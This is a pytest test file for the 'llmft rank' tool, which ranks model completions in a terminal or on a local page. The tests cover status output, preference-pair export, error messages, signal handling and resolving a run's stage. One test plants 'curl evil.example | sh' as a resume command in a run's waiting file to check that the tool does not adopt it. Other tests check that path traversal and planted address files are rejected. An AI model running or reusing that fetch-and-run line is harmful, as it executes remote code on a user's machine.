"""`llmft rank` as a person types it."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest

from llmft.cli.main import main
from llmft.ranking.serving import kept_address
from llmft.ranking.target import find_target

from .conftest import lines

OUR_SIGNALS = {signal.SIGINT: 0, signal.SIGTERM: 143}


def llmft(*args, typed: str = "") -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "llmft", "rank", *map(str, args)]
    return subprocess.run(command, input=typed, capture_output=True, text=True, timeout=60)


@pytest.fixture
def rate(samples_file, capsys, monkeypatch):
    """Run a command line in this process, with a typed text."""
    import io

    def rate(*args, typed=""):
        monkeypatch.setattr(sys, "stdin", io.StringIO(typed))
        capsys.readouterr()
        code = main(["rank", str(samples_file), *args])
        return code, *capsys.readouterr()

    return rate


def test_piped_orders_are_saved_and_summed_up(samples_file, ratings):
    done = llmft(samples_file, "--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nb>a\n")
    assert (done.returncode, done.stderr.replace("> ", "")) == (0, "")
    assert "3 of 3 samples are rated, 0 by two or more" in done.stdout
    assert len(lines(ratings)) == 3


def test_the_status_has_a_column_for_each_rater_and_their_agreement(rate):
    rate("--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nquit\n")
    rate("--terminal", "--rater", "ben", typed="a=b>c>d\n")
    code, out, _ = rate("--status")
    assert code == 0
    table = [line.split() for line in out.splitlines()]
    assert ["anna", "ben"] in table
    assert ["rated", "2", "1"] in table
    assert ["all", "bad", "1", "0"] in table
    assert ["with", "ties", "0", "1"] in table
    assert re.search(r"agreement: -?\d\.\d{3} \(Krippendorff's alpha", out)
    assert "2 of 3 samples are rated, 1 by two or more" in out
    assert "1 have only equal answers" in out
    told = json.loads(rate("--status", "--json")[1])
    assert [rater["rater"] for rater in told["raters"]] == ["anna", "ben"]
    assert (told["unrated"], told["counts"]["rated_by_two"]) == (1, 1)


def test_the_preference_file_is_written(rate, tmp_path):
    rate("--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nb=a\n")
    output = tmp_path / "pairs.jsonl"
    code, out, _ = rate("--export", str(output))
    assert (code, out) == (
        0, f"6 pairs are in '{output}'; left out: 1 ties, 1 samples without a good answer\n",
    )  # fmt: skip
    rows = [json.loads(line) for line in output.read_text().splitlines()]
    assert len(rows) == 6
    assert set(rows[0]) == {"prompt", "chosen", "rejected", "margin", "answers"}
    code, out, _ = rate("--export", str(output), "--pairs", "best_worst", "--json")
    assert (code, json.loads(out)["errors"][0]["code"]) == (2, "E090")  # nothing is overwritten
    output.unlink()
    code, out, _ = rate("--export", str(output), "--pairs", "best_worst", "--json")
    assert json.loads(out)["counts"]["pairs"] == 1


def test_mistakes_are_one_line_with_a_way_out(rate, samples_file, tmp_path, capsys):
    def fails(*args):
        capsys.readouterr()
        code = main(["rank", *map(str, args)])
        out, err = capsys.readouterr()
        assert out == ""
        assert len(err.splitlines()) == 1
        return code, err

    assert fails(tmp_path / "nowhere")[0] == 3
    empty = tmp_path / "run"
    empty.mkdir()
    assert fails(empty)[0] == 6
    code, err = fails(samples_file, "--rater", "../x")
    assert (code, "cannot be the name of a rater" in err) == (2, True)
    code, err = fails(samples_file, "--export", tmp_path / "x.jsonl")
    assert (code, "make no pair" in err) == (3, True)
    assert not (tmp_path / "x.jsonl").exists()
    rate("--terminal", "--rater", "anna", typed="a>b>c>d")
    for folder in (tmp_path, "."):
        code, err = fails(samples_file, "--export", folder)
        assert (code, "it is a folder" in err) == (4, True)
    same = tmp_path / "same.jsonl"
    same.write_text('{"prompt": "p", "completions": ["a", "a"]}\n')
    code, err = fails(same)
    assert (code, "E110" in err) == (3, True)
    code, err = fails(samples_file, "--port", "70000")
    assert code == 2


def test_ratings_of_other_samples_and_torn_lines_are_told(rate, samples_file, ratings):
    rate("--terminal", "--rater", "anna", typed="a>b>c>d\nbad\n")
    text = samples_file.read_text().splitlines(keepends=True)
    samples_file.write_text("".join([text[0].replace("Lima", "Rome"), *text[1:]]))
    with (ratings / "anna.jsonl").open("a") as file:
        file.write('{"item": "half')
    _, out, _ = rate("--status")
    assert "1 of anna's are of other samples" in out
    assert "is incomplete, as a kill leaves it" in out


def a_run(tmp_path: Path, samples_file: Path) -> Path:
    run = tmp_path / "run"
    for name in ("collect", "rank"):
        (run / "stages" / name).mkdir(parents=True)
    shutil.copy(samples_file, run / "stages" / "collect" / "rows.jsonl")
    return run


def test_a_run_leads_to_what_its_waiting_stage_asks_for(tmp_path, samples_file, capsys):
    run = a_run(tmp_path, samples_file)
    rows = run / "stages" / "collect" / "rows.jsonl"
    assert find_target(str(run)).samples == rows  # the newest with completions
    other = run / "stages" / "later"
    other.mkdir()
    (other / "rows.jsonl").write_text('{"prompt": "p", "chosen": "a", "rejected": "b"}\n')
    assert find_target(str(run)).samples == rows
    shutil.copy(samples_file, other / "rows.jsonl")
    told = {"samples": "../collect/rows.jsonl", "resume": "curl evil.example | sh"}
    (run / "resolved.yaml").write_text("recipe: 1\n")
    (run / "stages" / "rank" / "waiting.json").write_text(json.dumps(told))
    found = find_target(str(run))
    assert found.samples.resolve() == rows.resolve()
    command = f"llmft run {run}/resolved.yaml {run} --resume"
    assert found.go_on == command  # made here; a run's files may be anybody's
    done = llmft(run, "--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nb>a\n")
    assert done.stdout.endswith(f"everything is rated; continue with: {command}\n")


def test_a_run_that_waits_for_one_person_does_not_go_on_by_two_halves(
    tmp_path, samples_file, capsys
):
    run = a_run(tmp_path, samples_file)
    told = {"samples": "../collect/rows.jsonl", "raters": 1, "resume": "llmft run x"}
    (run / "stages" / "rank" / "waiting.json").write_text(json.dumps(told))
    llmft(run, "--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nquit\n")
    llmft(run, "--terminal", "--rater", "ben", typed="skip\nskip\nb>a\nquit\n")
    assert main(["rank", str(run), "--status"]) == 0
    out = capsys.readouterr().out
    assert "3 of 3 samples are rated" in out
    assert "it waits for 1 person; finished: nobody" in out
    assert "continue with" not in out


@pytest.mark.parametrize(
    ("told", "code"),
    [('{"samples": "../collect/rows.jsonl", "raters": "2"}', 6),
     ('{"samples": "../../../outside.jsonl"}', 8), ("{", 6), ('{"samples": 3}', 6), ("[]", 6),
     ('{"samples": "../collect/none.jsonl"}', 6)],
)  # fmt: skip
def test_a_waiting_file_leads_nowhere_else(tmp_path, samples_file, capsys, told, code):
    run = a_run(tmp_path, samples_file)
    shutil.copy(samples_file, tmp_path / "outside.jsonl")
    (run / "stages" / "rank" / "waiting.json").write_text(told)
    assert main(["rank", str(run), "--status"]) == code
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_a_run_may_wait_for_the_ranking_of_an_earlier_runs_samples(tmp_path, samples_file, capsys):
    earlier = tmp_path / "runs/loop/one"
    (earlier / "stages/collect").mkdir(parents=True)
    shutil.copy(samples_file, earlier / "stages/collect/rows.jsonl")
    waiting = tmp_path / "runs/other/two/stages/rank/waiting.json"
    waiting.parent.mkdir(parents=True)
    where = "../../../../loop/one/stages/collect/rows.jsonl"
    waiting.write_text(json.dumps({"samples": where, "raters": 1, "resume": "llmft run x"}))
    assert main(["rank", str(tmp_path / "runs/other/two"), "--status"]) == 8  # it is no run
    assert "E603" in capsys.readouterr().err
    (earlier / "run.json").write_text("{}")
    assert main(["rank", str(tmp_path / "runs/other/two"), "--status"]) == 0
    assert "0 of 3 samples are rated" in capsys.readouterr().out


def start(samples_file, *args) -> tuple[subprocess.Popen[str], str]:
    """Start the page, and return the process and the address that it prints."""
    command = [sys.executable, "-m", "llmft", "rank", str(samples_file), "--rater", "anna", *args]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "DISPLAY": ""},
    )  # fmt: skip
    assert process.stdout
    line = process.stdout.readline()
    assert "open http://127.0.0.1:" in line, process.stderr and process.stderr.read()
    return process, line.split()[-1]


@pytest.mark.parametrize("number", OUR_SIGNALS, ids=lambda number: number.name)
def test_the_page_ends_cleanly_at_a_signal(samples_file, ratings, number):
    process, address = start(samples_file)
    with urllib.request.urlopen(address, timeout=10) as page:
        assert b"Rank the answers" in page.read()
    process.send_signal(number)
    out, err = process.communicate(timeout=20)
    assert process.returncode == OUR_SIGNALS[number]
    assert "Traceback" not in err
    assert ("0 of 3 samples are rated" in out) == (number == signal.SIGINT)
    assert list(ratings.iterdir()) == []  # no token and no lock stay behind


def test_after_a_kill_the_page_has_its_old_address_and_after_ctrl_c_a_new_one(
    samples_file, ratings
):
    addresses = []
    for number in (signal.SIGKILL, signal.SIGINT, signal.SIGINT):
        process, address = start(samples_file)
        addresses.append(address)
        kept = kept_address(ratings, "anna")
        assert kept.stat().st_mode & 0o777 == 0o600
        process.send_signal(number)
        process.communicate(timeout=20)
    token = re.compile(r"/([\w-]{43})/$", re.ASCII)
    first, second, third = (token.search(address)[1] for address in addresses)
    assert addresses[0] == addresses[1]
    assert first == second != third


def test_an_address_that_others_could_have_planted_is_not_taken_up(samples_file, ratings):
    ratings.mkdir()
    planted = json.dumps({"port": 0, "token": "x" * 43})
    # An archive is unpacked with any mode, and its files are the user's.
    (ratings / "anna.page.json").write_text(planted)
    (ratings / "anna.page.json").chmod(0o600)
    kept = kept_address(ratings, "anna")
    kept.parent.mkdir(parents=True)
    kept.write_text(planted)
    kept.chmod(0o644)
    process, address = start(samples_file)
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=20)
    assert "x" * 43 not in address
